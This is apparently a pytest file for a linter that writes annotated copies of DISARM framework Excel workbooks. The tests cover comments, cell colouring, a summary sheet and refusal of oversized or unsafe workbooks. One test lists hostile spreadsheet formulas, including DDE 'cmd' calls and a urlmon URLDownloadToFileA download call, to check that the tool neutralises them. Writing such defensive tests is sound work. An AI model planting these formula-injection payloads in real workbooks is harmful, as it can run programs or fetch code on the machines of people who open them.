"""Annotated copies of the master workbooks: what is marked, what is kept, what is refused."""

from __future__ import annotations

import io
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import pytest
from msgspec import structs
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import Font

from disarm_lint.audit.annotate import annotate_workbook
from disarm_lint.audit.workbook import AnnotatedMaster, Made, detect_maker, open_book
from disarm_lint.model.finding import Finding, Origin, Root, Severity
from disarm_lint.model.text import CellSpan, Location, PageSource, Span, Text
from disarm_lint.parse.xlsx_limits import BadWorkbookError
from disarm_lint.report.report import ShownFinding
from support.cli import Result, lint, write_corpus
from support.published import CORPORA
from support.workbook_files import packed, parts, sheet_xml

NAME = "DISARM_FRAMEWORKS_MASTER.xlsx"
CORPUS = CORPORA / "disarm-1.6"


def finding(
    ref: str,
    message: str,
    severity: Severity = Severity.ERROR,
    sheet: str = "techniques",
    **more: str,
) -> ShownFinding:
    cell = CellSpan(sheet, ref, 0, 0)
    made = Finding(
        "N401", "name-mismatch", severity, Location(f"m/{NAME}", cell=cell), message, "T1"
    )
    return ShownFinding(made, f"m/{NAME}", **more)  # type: ignore[arg-type]


def on_page(ref: str, line: int) -> ShownFinding:
    origin = Origin(f"m/{NAME}", CellSpan("techniques", ref, 0, 3), "abc", "row", "T1")
    place = Location("p.md", Span(line, 1, line, 2))
    made = Finding(
        "T503", "odd-blank", Severity.INFO, place, "odd", "T1", suggestion="", source=origin
    )
    return ShownFinding(made, "p.md", origin=f"m/{NAME}")


def book_bytes(book: Workbook | None = None) -> bytes:
    book = book or sample()
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def sample() -> Workbook:
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "techniques"
    for row in (["disarm_id", "name"], ["T0001", "One"], ["T0002", "Two"], ["T0003", "=1+1"]):
        sheet.append(row)
    sheet["B2"].comment = Comment("look here", "Ann")
    sheet.merge_cells("C1:D2")
    return book


def copy_of(*findings: ShownFinding, data: bytes | None = None) -> Workbook:
    master = AnnotatedMaster(f"m/{NAME}", Path("m"), data or book_bytes(), findings)
    return load_workbook(io.BytesIO(annotate_workbook(master).data))


def note(book: Workbook, ref: str) -> str:
    comment = book["techniques"][ref].comment
    assert comment is not None
    return str(comment.text)


def test_a_cell_is_coloured_by_its_worst_finding_and_says_each_message_once() -> None:
    book = copy_of(
        finding("A3", "small", Severity.INFO), finding("A3", "wrong"), finding("A3", "wrong")
    )
    assert book["techniques"]["A3"].fill.start_color.rgb == "00FFC7CE"
    assert note(book, "A3") == (
        "disarm-lint: 2 errors, 1 info\n\n"
        "ERROR N401 name-mismatch (2 times)\nwrong\n\n"
        "INFO N401 name-mismatch\nsmall"
    )
    assert book["techniques"]["A2"].comment is None


def test_the_first_sheet_counts_and_explains() -> None:
    bare = finding("A2", "small", Severity.INFO)
    text = Text(PageSource(f"m/{NAME}", "T0001 and more"), 0, 5)
    shown = replace(bare, finding=structs.replace(bare.finding, text=text))
    book = copy_of(shown, shown)
    facts = [str(cell.value) for cell in book.worksheets[0]["A"][:5]]
    assert facts[1].startswith("2 infos, in 1 cell; ")
    assert "In the column Text, ⟦ and ⟧ are around the wrong words." in facts


def test_findings_on_pages_stand_at_the_cell_that_they_come_from() -> None:
    book = copy_of(on_page("A2", 3), on_page("A2", 7))
    assert note(book, "A2").endswith(
        "INFO T503 odd-blank (2 times)\nodd\n→ delete it\non the page p.md:3:1 and on 1 more"
    )


def test_a_note_says_what_to_do_in_the_cell_not_what_to_write_on_the_page() -> None:
    shown = on_page("A2", 3)
    text = Text(PageSource("p.md", "abc.0"), 0, 5)
    root = Root("decimals", "decimals in {where}", "format {where} as text")
    made = replace(
        shown, finding=structs.replace(shown.finding, text=text, suggestion="abc", root=root)
    )
    assert "→ format techniques!A as text\n" in note(copy_of(made), "A2")
    same = Text(text.source, 0, 3)
    made = replace(shown, finding=structs.replace(made.finding, text=same, suggestion="x\ny"))
    told = note(copy_of(made), "A2")
    assert "→ write “x↵y” (↵ is a line break: Alt+Enter)\n" in told


def test_a_comment_is_kept_and_formulas_are() -> None:
    book = copy_of(finding("B2", "wrong"))
    assert note(book, "B2").startswith("look here\n\ndisarm-lint: 1 error\n")
    comment = book["techniques"]["B2"].comment
    assert comment is not None
    assert comment.author == "Ann"
    assert book["techniques"]["B4"].value == "=1+1"


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A0",
        "=CMD.EXE |'/c calc'!A0",
        "='cmd'|'/c calc'!A0",
        '=WEBSERVICE("http://a.example/"&A1)',
        '=IF(1,_xlfn.WebService ("http://a.example/"),2)',
        '=IMAGE("http://a.example/")',
        '=RTD("a.b",,"c")',
        '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"a","b",0,0)',
        "=[1]Sheet1!A1",
        "='[1]Sheet 1'!A1",
    ],
)
def test_a_formula_that_reaches_out_becomes_a_text(formula: str) -> None:
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation
    from openpyxl.worksheet.formula import ArrayFormula

    book = sample()
    sheet = book["techniques"]
    sheet["G2"] = formula
    sheet["G3"] = ArrayFormula("G3:G4", formula)
    sheet["G5"] = "=SUM(Table1[2019],A1:A2)"
    book.defined_names["evil"] = DefinedName("evil", attr_text=formula[1:])
    sheet.data_validations.append(DataValidation("list", formula1=formula[1:], sqref="G6"))
    copied = copy_of(finding("B2", "wrong"), data=book_bytes(book))
    for ref in ("G2", "G3"):
        cell = copied["techniques"][ref]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)
    assert copied["techniques"]["G5"].data_type == "f"
    assert list(copied.defined_names) == []
    assert not copied["techniques"].data_validations.dataValidation
    told = [str(row[0].value) for row in copied.worksheets[0].iter_rows(max_row=8)]
    assert any("formulas that start a program, load code or ask a server" in text for text in told)


def test_a_merged_cell_is_marked_where_it_shows() -> None:
    book = copy_of(finding("D2", "wrong"))
    assert "wrong" in note(book, "C1")


def test_many_findings_are_cut_with_their_number() -> None:
    book = copy_of(*(finding("A3", f"wrong {number}") for number in range(40)))
    text = note(book, "A3")
    assert text.endswith("\n\n… and 28 more, in the sheet “disarm-lint”")
    assert "wrong 11\n" in text


def test_hostile_texts_are_texts() -> None:
    book = copy_of(finding("A3", "=cmd|' /C calc'!A0 <script> a\0b _x0041_"), finding("A2", "=1"))
    assert "=cmd|' /C calc'!A0 <script> a<U+0000>b _x005F_x0041_" in note(book, "A3")
    front = book["disarm-lint"]
    assert all(cell.data_type != "f" for row in front.iter_rows() for cell in row)


def test_the_sheet_in_front_links_to_the_cells() -> None:
    book = copy_of(finding("A3", "hint", Severity.INFO), finding("B3", "wrong"))
    assert book.sheetnames == ["disarm-lint", "techniques"]
    front = book.worksheets[0]
    rows = [row for row in front.iter_rows() if row[0].value in ("error", "info") and row[2].value]
    assert [(row[1].value, row[2].value, row[6].value) for row in rows] == [
        ("techniques", "B3", "wrong"),
        ("techniques", "A3", "hint"),
    ]
    links = [row[2].hyperlink for row in rows]
    assert [link.location for link in links if link] == ["'techniques'!B3", "'techniques'!A3"]
    assert all(link and link.target is None for link in links)


def test_a_sheet_of_that_name_is_kept() -> None:
    book = sample()
    book.create_sheet("Disarm-Lint")
    assert copy_of(data=book_bytes(book)).sheetnames == [
        "disarm-lint (2)",
        "techniques",
        "Disarm-Lint",
    ]


def test_a_copy_is_known_and_so_is_a_changed_one() -> None:
    data = annotate_workbook(AnnotatedMaster(f"m/{NAME}", Path("m"), book_bytes(), ())).data
    assert detect_maker(data) is Made.HERE
    assert detect_maker(book_bytes()) is Made.ELSEWHERE
    assert detect_maker(b"no workbook") is Made.ELSEWHERE
    changed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(changed, "w") as new:
        for info in old.infolist():
            new.writestr(info, old.read(info).replace(b"One", b"Own"))
    assert detect_maker(changed.getvalue()) is Made.CHANGED
    with pytest.raises(BadWorkbookError, match="an annotated copy itself"):
        open_book(data)


@pytest.mark.parametrize(
    ("after", "reason"),
    [
        ('<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>', "ranges cover more than"),
        ('<hyperlinks><hyperlink ref="A:Z"/></hyperlinks>', "ranges cover more than"),
    ],
)
def test_what_would_take_all_memory_is_refused(after: str, reason: str) -> None:
    made = parts()
    made["xl/worksheets/sheet1.xml"] = sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>', after)
    with pytest.raises(BadWorkbookError, match=reason):
        open_book(packed(made))


def test_shared_formulas_that_would_be_written_out_in_each_cell_are_refused() -> None:
    long = "&amp;".join(["A2"] * 2_500)
    cells = "".join(
        f'<row r="{row}"><c r="B{row}"><f t="shared" si="0">{long if row == 1 else ""}</f>'
        "<v>1</v></c></row>"
        for row in range(1, 400)
    )
    made = parts()
    made["xl/worksheets/sheet1.xml"] = sheet_xml(cells)
    with pytest.raises(BadWorkbookError, match="its shared formulas, written out, hold more"):
        open_book(packed(made))


def test_cells_far_to_the_right_cost_no_more_than_they_are() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in range(1, 60_000, 1_000):
        sheet.cell(row, 16_384).font = Font(bold=True)
    sheet.cell(60_000, 1).value = "the last"
    stream = io.BytesIO()
    book.save(stream)
    master = AnnotatedMaster(f"m/{NAME}", Path("m"), stream.getvalue(), ())
    assert annotate_workbook(master).cells == 0


def corpus(root: Path) -> Path:
    write_corpus(root)
    folder = root / "DISARM_MASTER_DATA"
    folder.mkdir()
    (folder / NAME).write_bytes(book_bytes())
    return folder / NAME


def annotate(root: Path, folder: str) -> Result:
    return lint("audit", ".", "--annotate", folder, cwd=root)


def test_copies_are_made_and_made_anew(tmp_path: Path) -> None:
    original = corpus(tmp_path)
    before = original.read_bytes()
    first = annotate(tmp_path, "out/notes")
    assert (first.status, first.err) == (0, "")
    copy = (tmp_path / "out/notes" / NAME).read_bytes()
    assert annotate(tmp_path, "out/notes").status == 0
    assert (tmp_path / "out/notes" / NAME).read_bytes() == copy
    assert original.read_bytes() == before
    assert [file.name for file in (tmp_path / "out/notes").iterdir()] == [NAME]


@pytest.mark.parametrize("folder", [".", "DISARM_MASTER_DATA", ".."])
def test_the_folder_of_the_originals_is_refused(tmp_path: Path, folder: str) -> None:
    root = tmp_path / "corpus"
    before = corpus(root).read_bytes()
    done = annotate(root, folder)
    assert (done.status, done.err) == (
        2,
        f"disarm-lint: --annotate: “{folder}” holds the originals (“DISARM_MASTER_DATA/{NAME}”), "
        "which are never written to; name a folder beside them\n",
    )
    assert (root / "DISARM_MASTER_DATA" / NAME).read_bytes() == before


def test_other_files_are_not_replaced(tmp_path: Path) -> None:
    original = corpus(tmp_path)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / NAME).write_bytes(b"mine")
    done = annotate(tmp_path, "out")
    assert (done.status, done.err) == (
        2,
        f"disarm-lint: --annotate: “out/{NAME}” is not an annotated copy; "
        "move it away, or name another folder\n",
    )
    (tmp_path / "out" / NAME).unlink()
    (tmp_path / "out" / NAME).symlink_to(original)
    assert "is a link; remove it" in annotate(tmp_path, "out").err


def test_without_workbooks_there_is_nothing_to_annotate(tmp_path: Path) -> None:
    write_corpus(tmp_path)
    done = annotate(tmp_path, "out")
    assert done.status == 2
    assert done.err.startswith("disarm-lint: there is no workbook to annotate")


_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def notes_in(fods: Path) -> dict[tuple[str, int, int], str]:
    """Return the notes of a flat OpenDocument file by sheet, row and column."""
    found = {}
    for table in ElementTree.parse(fods).getroot().iter(f"{_TABLE}table"):
        row = 0
        for line in table.iter(f"{_TABLE}table-row"):
            row += 1
            column = 0
            for cell in line:
                column += 1
                for told in cell.findall(f"{_OFFICE}annotation"):
                    texts = ["".join(p.itertext()) for p in told.findall(f"{_TEXT}p")]
                    found[table.get(f"{_TABLE}name", ""), row, column] = "\n".join(texts)
                column += int(cell.get(f"{_TABLE}number-columns-repeated", 1)) - 1
            row += int(line.get(f"{_TABLE}number-rows-repeated", 1)) - 1
    return found


@pytest.mark.corpus
@pytest.mark.program("soffice")
def test_another_program_finds_the_notes_where_they_were_put(tmp_path: Path) -> None:
    done = lint("audit", str(CORPUS), "--annotate", "notes", cwd=tmp_path)
    assert (done.status, done.err) == (0, "")
    copies = sorted((tmp_path / "notes").iterdir())
    assert [copy.name for copy in copies] == ["DISARM_DATA_MASTER.xlsx", NAME]
    profile = (tmp_path / "profile").as_uri()
    command = ["soffice", "--headless", f"-env:UserInstallation={profile}", "--convert-to", "fods"]
    subprocess.run(
        [*command, "--outdir", str(tmp_path), *map(str, copies)],
        check=True,
        capture_output=True,
        timeout=300,
    )
    for copy in copies:
        book = load_workbook(copy)
        put = {
            (sheet.title, int(cell.row or 0), int(cell.column or 0)): cell.comment.text
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.comment is not None
        }
        read = notes_in(tmp_path / f"{copy.stem}.fods")
        assert read.keys() == put.keys()
        for place, text in put.items():
            assert read[place].split() == text.split(), place
